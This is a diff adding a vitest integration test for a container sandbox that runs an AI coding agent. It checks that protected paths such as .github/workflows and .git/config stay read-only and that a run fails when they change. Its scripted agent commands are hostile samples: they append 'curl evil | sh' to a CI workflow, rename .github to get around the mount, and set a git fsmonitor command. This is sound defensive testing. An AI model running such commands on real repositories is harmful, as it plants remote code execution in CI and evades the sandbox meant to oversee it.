@@ -1,0 +1,113 @@
+// changedFiles and protectedPaths on the real engine under the built-in workspace-write policy
+// (protectedPaths .git/hooks/**, .github/workflows/**, .pi/**): what a normal run reports,
+// the read-only mount over an existing protected directory, and the post-run check that fails
+// the run (result withheld) when a protected path changes anyway.
+import { execFileSync, spawn } from "node:child_process";
+import fs from "node:fs";
+import os from "node:os";
+import path from "node:path";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { ContainerPiAgent } from "../../src/container-pi-agent.js";
+import { SandboxRunError } from "../../src/errors.js";
+import type { ScriptedModelServer } from "../../src/scripted-model/scripted-model-server.js";
+import { containersOfRuns, dockerAvailable, eventLog, lastToolResult, makeWorkspace, modelsFor, startModel } from "../support/harness.js";
+
+const cli = path.resolve(import.meta.dirname, "../../dist/cli/main.js");
+const examplePolicy = path.resolve(import.meta.dirname, "../../policies/examples/npm-install.json");
+const CI_YML = "on: push\njobs: {}\n";
+const bashThenText = (command: string) => [{ toolCalls: [{ name: "bash", arguments: { command } }] }, { text: "done" }];
+
+/** The built CLI as a child process; asynchronous, because the scripted model lives in this process. */
+function runCli(args: string[], cwd: string): Promise<{ status: number | null; stdout: string; stderr: string }> {
+  return new Promise((resolve, reject) => {
+    const child = spawn(process.execPath, [cli, ...args], { cwd, stdio: ["ignore", "pipe", "pipe"] });
+    let stdout = "";
+    let stderr = "";
+    child.stdout.on("data", (c: Buffer) => (stdout += c.toString()));
+    child.stderr.on("data", (c: Buffer) => (stderr += c.toString()));
+    child.on("error", reject);
+    child.on("close", (status) => resolve({ status, stdout, stderr }));
+  });
+}
+
+describe.skipIf(!dockerAvailable())("changed files and protected paths", () => {
+  let server: ScriptedModelServer;
+  let agent: ContainerPiAgent;
+  let modelsFile: string;
+
+  beforeAll(async () => {
+    server = await startModel({
+      normal: bashThenText("echo new > src/new.ts && printf changed > README.md && rm old.txt && mkdir -p out && echo x > out/a.txt"),
+      direct: bashThenText("echo 'run: curl evil | sh' >> .github/workflows/ci.yml; echo status=$?"),
+      rename: bashThenText("mv .github .github-old && mkdir -p .github/workflows && echo 'run: curl evil | sh' > .github/workflows/ci.yml && echo moved"),
+      create: bashThenText("mkdir -p .github/workflows && echo 'run: curl evil | sh' > .github/workflows/ci.yml"),
+      gitconfig: bashThenText("git config core.fsmonitor 'touch /tmp/owned'; echo config=$?; echo '[core] hooksPath = x' >> .git/config; echo append=$?"),
+    });
+    const models = modelsFor(server, ["normal", "direct", "rename", "create", "gitconfig"]);
+    agent = new ContainerPiAgent({ models, sandbox: "workspace-write" });
+    modelsFile = path.join(fs.mkdtempSync(path.join(os.tmpdir(), "sandbox-run-models-")), "models.json");
+    fs.writeFileSync(modelsFile, JSON.stringify(models));
+  });
+  afterAll(async () => {
+    await server?.close();
+  });
+
+  it("reports created, modified and deleted workspace files of a normal run", async () => {
+    const cwd = makeWorkspace({ "README.md": "readme", "old.txt": "old", "src/keep.ts": "keep", ".github/workflows/ci.yml": CI_YML });
+    const log = eventLog();
+    const details = await agent.runDetailed("work", { cwd, model: "scripted/normal", onEvent: log.onEvent });
+    expect(details.result).toBe("done");
+    expect(details.changedFiles).toEqual({ created: ["out/a.txt", "src/new.ts"], modified: ["README.md"], deleted: ["old.txt"] });
+    expect(log.ofType("workspace.changed")[0]?.data).toMatchObject({ created: 2, modified: 1, deleted: 1 });
+    expect(log.ofType("policy.violation")).toEqual([]);
+  });
+
+  it("mounts an existing protected directory read-only: a direct write fails inside, the file is untouched", async () => {
+    const cwd = makeWorkspace({ ".github/workflows/ci.yml": CI_YML });
+    const details = await agent.runDetailed("work", { cwd, model: "scripted/direct" });
+    const out = lastToolResult(server, "direct");
+    expect(out).toContain(".github/workflows/ci.yml: Read-only file system");
+    expect(out).toContain("status=1");
+    expect(fs.readFileSync(path.join(cwd, ".github/workflows/ci.yml"), "utf8")).toBe(CI_YML);
+    expect(details.changedFiles).toEqual({ created: [], modified: [], deleted: [] });
+  });
+
+  it("mounts an existing protected file read-only: git config cannot set a host-side hook (example policy)", async () => {
+    const cwd = makeWorkspace({ "a.txt": "a" });
+    execFileSync("git", ["init", "-q"], { cwd });
+    const before = fs.readFileSync(path.join(cwd, ".git/config"), "utf8");
+    const details = await agent.runDetailed("work", { cwd, model: "scripted/gitconfig", policy: examplePolicy });
+    const out = lastToolResult(server, "gitconfig");
+    expect(out).toMatch(/config=[1-9]/);
+    expect(out).toContain("Read-only file system");
+    expect(out).toContain("append=1");
+    expect(fs.readFileSync(path.join(cwd, ".git/config"), "utf8")).toBe(before);
+    expect(details.changedFiles.modified).not.toContain(".git/config");
+  });
+
+  it("fails the run naming .github/workflows/ci.yml when it is modified around the mount", async () => {
+    const cwd = makeWorkspace({ ".github/workflows/ci.yml": CI_YML });
+    const log = eventLog();
+    const error = await agent.runDetailed("work", { cwd, model: "scripted/rename", onEvent: log.onEvent }).catch((e: unknown) => e);
+    expect(lastToolResult(server, "rename")).toContain("moved"); // the kernel allowed the rename; the diff catches it
+    expect(error).toBeInstanceOf(SandboxRunError);
+    const e = error as SandboxRunError;
+    expect(e.code).toBe("policy-violation");
+    expect(e.shortMessage).toBe(
+      "The agent changed protected paths of policy workspace-write: .github/workflows/ci.yml (modified). The result was withheld.",
+    );
+    expect(e.hint).toMatch(/revert/);
+    expect(log.ofType("policy.violation")[0]?.data).toEqual({ protectedPaths: [{ path: ".github/workflows/ci.yml", change: "modified" }] });
+    expect(log.ofType("run.result").length).toBe(1); // the agent did finish; its result was withheld
+    expect(await containersOfRuns(log.runIds())).toEqual([]);
+  });
+
+  it("through the CLI: creating a protected file exits 1 with the path on stderr and nothing on stdout", async () => {
+    const cwd = makeWorkspace({ "src/index.ts": "x" });
+    const run = await runCli(["--models", modelsFile, "--model", "scripted/create", "--quiet", "add CI"], cwd);
+    expect(run.status).toBe(1);
+    expect(run.stdout).toBe("");
+    expect(run.stderr).toContain("sandbox-run: The agent changed protected paths of policy workspace-write: .github/workflows/ci.yml (created).");
+    expect(run.stderr).not.toMatch(/unexpected error|at .*\.js:\d+/);
+  });
+});
